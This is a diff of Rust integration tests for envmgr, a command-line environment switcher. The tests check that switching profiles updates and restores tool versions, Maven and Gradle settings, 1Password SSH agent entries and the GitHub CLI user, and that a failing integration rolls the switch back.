+        tool_versions.contains("\nnodejs 18.19.0\n") && tool_versions.ends_with("python 3.12.1\n"),
+        "{tool_versions}"
+    );
+
+    run_envmgr(&root, &["switch", "personal"]);
+    assert!(!conf_d.exists());
+    assert_eq!(
+        fs::read_to_string(home.join(".tool-versions")).unwrap(),
+        "python 3.12.1\n"
+    );
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+#[cfg(unix)]
+fn test_cli_maven_settings_fall_back_to_base() {
+    let root = create_config_root("envmgr_cli_test_maven");
+    let home = root.join("home");
+    run_envmgr(&root, &["add", "Work", "--no-interactive"]);
+    run_envmgr(&root, &["add", "Personal", "--no-interactive"]);
+    fs::write(
+        root.join("config/base/config.yaml"),
+        "name: Base\nmaven:\n  gradle_properties: {org.gradle.daemon: 'true'}\n",
+    )
+    .unwrap();
+    let work_dir = root.join("config/environments/work");
+    fs::create_dir_all(work_dir.join("maven")).unwrap();
+    fs::write(work_dir.join("maven/settings.xml"), "<settings/>\n").unwrap();
+    fs::write(
+        work_dir.join("config.yaml"),
+        "name: Work\nmaven:\n  settings_source: maven/settings.xml\n  gradle_properties: {nexusUser: ci}\n",
+    )
+    .unwrap();
+    let settings = home.join(".m2/settings.xml");
+    let properties = home.join(".gradle/gradle.properties");
+
+    run_envmgr(&root, &["switch", "work"]);
+    assert_eq!(
+        fs::read_link(&settings).unwrap(),
+        work_dir.join("maven/settings.xml")
+    );
+    let written = fs::read_to_string(&properties).unwrap();
+    assert!(written.contains("\nnexusUser=ci\n"), "{written}");
+
+    run_envmgr(&root, &["switch", "personal"]);
+    assert!(settings.symlink_metadata().is_err());
+    let written = fs::read_to_string(&properties).unwrap();
+    assert!(
+        written.contains("\norg.gradle.daemon=true\n") && !written.contains("nexusUser"),
+        "{written}"
+    );
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+#[cfg(target_os = "linux")]
+fn test_cli_switching_away_restores_op_ssh_and_gh_cli() {
+    let root = create_config_root("envmgr_cli_test_switch_from");
+    let xdg_config = root.join("home/.config");
+    let switch = |key: &str| {
+        let output = std::process::Command::new(env!("CARGO_BIN_EXE_envmgr"))
+            .args(["switch", key])
+            .env("ENVMGR_CONFIG_DIR", root.join("config"))
+            .env("ENVMGR_STATE_DIR", root.join("state"))
+            .env("HOME", root.join("home"))
+            .env("XDG_CONFIG_HOME", &xdg_config)
+            .output()
+            .unwrap();
+        assert!(
+            output.status.success(),
+            "envmgr switch {key} failed: {}",
+            String::from_utf8_lossy(&output.stderr)
+        );
+    };
+    run_envmgr(&root, &["add", "Work", "--no-interactive"]);
+    run_envmgr(&root, &["add", "Personal", "--no-interactive"]);
+    fs::write(
+        root.join("config/environments/work/config.yaml"),
+        "name: Work\n\
+         op_ssh:\n  keys:\n    - vault: Work\n\
+         gh_cli:\n  hosts:\n    - host: github.com\n      user: alice-work\n",
+    )
+    .unwrap();
+    fs::write(
+        root.join("config/environments/personal/config.yaml"),
+        "name: Personal\nop_ssh:\n  keys:\n    - vault: Private\n",
+    )
+    .unwrap();
+    let agent = xdg_config.join("1Password/ssh/agent.toml");
+    let agent_toml = "# My keys\n[[ssh-keys]]\nitem = \"Personal SSH Key\"\n";
+    fs::create_dir_all(agent.parent().unwrap()).unwrap();
+    fs::write(&agent, agent_toml).unwrap();
+    let hosts = xdg_config.join("gh/hosts.yml");
+    fs::create_dir_all(hosts.parent().unwrap()).unwrap();
+    fs::write(
+        &hosts,
+        "github.com:\n    users:\n        alice:\n        alice-work:\n    user: alice\n",
+    )
+    .unwrap();
+    let active_user = || {
+        let content = fs::read_to_string(&hosts).unwrap();
+        let line = content
+            .lines()
+            .find(|line| line.trim_start().starts_with("user:"));
+        line.unwrap()
+            .trim()
+            .trim_start_matches("user:")
+            .trim()
+            .to_string()
+    };
+
+    switch("work");
+    assert!(
+        fs::read_to_string(&agent)
+            .unwrap()
+            .contains("vault = \"Work\"")
+    );
+    assert_eq!(active_user(), "alice-work");
+
+    // Personal has no gh_cli, so alice is active again; op_ssh moves on to its keys
+    switch("personal");
+    assert_eq!(active_user(), "alice");
+    let written = fs::read_to_string(&agent).unwrap();
+    assert!(written.contains("vault = \"Private\"") && !written.contains("vault = \"Work\""));
+
+    switch("base");
+    assert_eq!(fs::read_to_string(&agent).unwrap(), agent_toml);
+    assert_eq!(active_user(), "alice");
+    let state = fs::read_to_string(root.join("state/state.toml")).unwrap();
+    assert!(!state.contains("integration_snapshots"), "{state}");
+
+    fs::remove_dir_all(&root).unwrap();
+}
+
+#[test]
+#[cfg(target_os = "linux")]
+fn test_cli_failing_integration_rolls_back_the_switch() {
+    use std::os::unix::fs::PermissionsExt;
+
+    let root = create_config_root("envmgr_cli_test_switch_rollback");
+    let home = root.join("home");
+    run_envmgr(&root, &["add", "Work", "--no-interactive"]);
+    fs::write(
+        root.join("config/environments/work/config.yaml"),
+        "name: Work\n\
+         git:\n  user_name: Alice\n  user_email: alice@work.example\n\
+         gh_cli:\n  hosts:\n    - host: github.com\n      user: alice-work\n\
+         tailscale:\n  tailnet: corp.ts.net\n",
+    )
+    .unwrap();
+    let hosts = home.join(".config/gh/hosts.yml");
+    fs::create_dir_all(hosts.parent().unwrap()).unwrap();
+    let hosts_yml =
+        "github.com:\n    users:\n        alice:\n        alice-work:\n    user: alice\n";
+    fs::write(&hosts, hosts_yml).unwrap();
+    // tailscale comes last and fails
+    let bin = root.join("bin");
+    fs::create_dir_all(&bin).unwrap();
+    fs::write(
+        bin.join("tailscale"),
+        "#!/bin/sh\necho 'daemon not running' >&2\nexit 1\n",
+    )
+    .unwrap();
+    fs::set_permissions(bin.join("tailscale"), fs::Permissions::from_mode(0o755)).unwrap();
+    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
+    let switch = |args: &[&str]| {
+        std::process::Command::new(env!("CARGO_BIN_EXE_envmgr"))
+            .arg("switch")
+            .args(args)
+            .env("ENVMGR_CONFIG_DIR", root.join("config"))
+            .env("ENVMGR_STATE_DIR", root.join("state"))
+            .env("HOME", &home)
+            .env("XDG_CONFIG_HOME", home.join(".config"))
+            .env("PATH", &path)
+            .output()
+            .unwrap()
+    };
+    let include = home.join(".config/git/envmgr.inc");
+    let state = || fs::read_to_string(root.join("state/state.toml")).unwrap();
+
+    let failed = switch(&["work"]);
+    assert!(!failed.status.success());
+    let stderr = String::from_utf8_lossy(&failed.stderr);
+    assert!(stderr.contains("daemon not running"), "{stderr}");
+    assert!(stderr.contains("rolled back"), "{stderr}");
+    assert!(
+        state().contains("current_env_key = \"base\""),
+        "{}",
+        state()
+    );
+    assert!(
+        fs::read_to_string(&hosts)
+            .unwrap()
+            .contains("user: alice\n")
+    );
+    let content = fs::read_to_string(&include).unwrap_or_default();
+    assert!(!content.contains("alice@work.example"), "{content}");
+
+    let failed = switch(&["work", "--continue-on-error"]);
+    assert!(!failed.status.success());
+    let stderr = String::from_utf8_lossy(&failed.stderr);
+    assert!(
+        stderr.contains("1 integration(s) failed: tailscale"),
+        "{stderr}"
+    );
+    assert!(
+        state().contains("current_env_key = \"work\""),
+        "{}",
+        state()
+    );
+    assert!(
+        fs::read_to_string(&hosts)
+            .unwrap()
+            .contains("user: alice-work\n")
+    );
+    assert!(
+        fs::read_to_string(&include)
+            .unwrap()
+            .contains("alice@work.example")
+    );
+
+    fs::remove_dir_all(&root).unwrap();
+}